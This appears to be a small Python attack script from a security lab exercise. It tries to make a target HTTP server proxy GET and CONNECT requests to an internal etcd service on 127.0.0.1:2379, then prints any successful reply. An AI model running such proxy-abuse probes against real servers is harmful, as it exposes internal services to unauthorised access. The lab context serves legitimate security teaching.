"""Tries to let the recorder fetch what it can't reach itself.

Lab: 01
Earns: what the solution does, which goes on after it
May not touch: other servers
"""

import socket


def ask(client, *lines, body=""):
    """Send lines of HTTP as they are; the answer's first line."""
    host, _, port = client.connection.server.rpartition("/")[2].partition(":")
    with socket.create_connection((host, int(port)), 5) as connection:
        connection.sendall(("\r\n".join(lines) + "\r\n\r\n" + body).encode())
        connection.settimeout(2)
        try:
            return connection.recv(65536).decode(errors="replace")
        except TimeoutError:
            return ""


def attack(client):
    for line in ("GET http://127.0.0.1:2379/version HTTP/1.1", "CONNECT 127.0.0.1:2379 HTTP/1.1"):
        answer = ask(client, line, "Host: 127.0.0.1:2379")
        if "etcd" in answer or " 200 " in answer.partition("\r\n")[0]:
            print("GOT", answer[:80])
